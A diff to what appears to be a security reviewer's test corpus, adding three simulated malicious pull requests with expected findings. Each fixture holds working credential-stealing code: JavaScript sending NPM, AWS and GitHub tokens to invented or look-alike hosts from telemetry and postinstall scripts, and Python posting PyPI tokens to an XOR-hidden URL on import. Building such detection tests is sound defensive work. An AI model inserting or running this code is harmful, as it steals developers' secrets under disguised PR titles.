@@ -7726,4 +7726,106 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['swift-package-moved'], drivers: ['finding:swift-package-moved'] },
   },
+  {
+    id: 'attack-npm-token-in-url-query-and-state-field',
+    description:
+      'Modeled on the npm postinstall stealers of 2024-2026 that beacon a token in a URL\'s query: a "refactor telemetry" PR whose module puts NPM_TOKEN in a URL object\'s query (`url.searchParams.set(\'k\', process.env.NPM_TOKEN)`) in one function and fetches the URL in another, and keeps AWS_SECRET_ACCESS_KEY in a field of a module state object (`state.creds.k = …`) that a later function posts whole to the same collector.',
+    fixture: () =>
+      attackPr({
+        repo: 'pkg-utils',
+        number: 74001,
+        title: 'refactor: tidy telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'lib/telemetry.js',
+            base: lines("'use strict';", '', 'module.exports = { start() {} };'),
+            head: lines(
+              "'use strict';",
+              "const https = require('https');",
+              '',
+              "const url = new URL('/v1/c', 'https://stats.pkg-insights.dev');",
+              'const state = { started: Date.now(), creds: {} };',
+              '',
+              'function collect() {',
+              "  url.searchParams.set('k', process.env.NPM_TOKEN || '');",
+              "  url.searchParams.set('v', process.version);",
+              "  state.creds.k = process.env.AWS_SECRET_ACCESS_KEY || '';",
+              '}',
+              '',
+              'function send() {',
+              '  https.get(url.href, () => {});',
+              "  fetch('https://stats.pkg-insights.dev/v1/s', { method: 'POST', body: JSON.stringify(state) }).catch(() => {});",
+              '}',
+              '',
+              'module.exports = { start() { collect(); send(); } };',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-npm-token-to-npmjs-look-alike-host',
+    description:
+      'Modeled on the npm and GitHub Actions credential stealers of 2024-2026 that post to hosts named after the service: a "fix install on CI" PR adds a postinstall helper that posts NPM_TOKEN to npmjs-cdn-status.com and GITHUB_TOKEN to github-actions-cache.net, look-alikes whose extra words (the glued `js`, `actions`) were outside the dressing list, so both were taken for npm\'s and GitHub\'s own hosts.',
+    fixture: () =>
+      attackPr({
+        repo: 'pkg-utils',
+        number: 74002,
+        title: 'fix: install on CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "console.log('installed');"),
+            head: lines(
+              "'use strict';",
+              "console.log('installed');",
+              '',
+              'async function warm() {',
+              "  await fetch('https://npmjs-cdn-status.com/v2/warm', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) }).catch(() => {});",
+              "  await fetch('https://github-actions-cache.net/v2/warm', { method: 'POST', body: JSON.stringify({ t: process.env.GITHUB_TOKEN }) }).catch(() => {});",
+              '}',
+              '',
+              'warm();',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-pypi-token-to-xor-hidden-host',
+    description:
+      'Modeled on the PyPI credential stealers of 2024-2026 that hide their collector\'s host from a reader: a "speed up imports" PR adds a module that decodes its URL from a list of codes XOR-ed with 0x2A (`"".join(chr(c ^ _K) for c in _E)`) and posts NPM_TOKEN and PYPI_API_TOKEN there on import; a second file builds the same host with `"https://%s/c" % HOST`.',
+    fixture: () =>
+      attackPr({
+        repo: 'pkg-utils',
+        number: 74003,
+        title: 'perf: speed up imports',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'pkg_utils/_warm.py',
+            base: lines('import os', ''),
+            head: lines(
+              'import os',
+              'import requests',
+              '',
+              '_K = 0x2A',
+              '_E = [66, 94, 94, 90, 89, 16, 5, 5, 89, 94, 75, 94, 89, 4, 90, 65, 77, 7, 67, 68, 89, 67, 77, 66, 94, 89, 4, 78, 79, 92, 5, 73]',
+              '_U = "".join(chr(c ^ _K) for c in _E)',
+              '',
+              'requests.post(_U, json={"n": os.environ.get("NPM_TOKEN"), "p": os.environ.get("PYPI_API_TOKEN")}, timeout=3)',
+            ),
+          },
+          {
+            path: 'pkg_utils/_ping.py',
+            head: lines('import os', 'import requests', '', 'HOST = "stats.pkg-insights.dev"', '', 'def ping():', '    requests.post("https://%s/c" % HOST, data={"t": os.environ.get("PYPI_API_TOKEN")}, timeout=3)'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
 ];
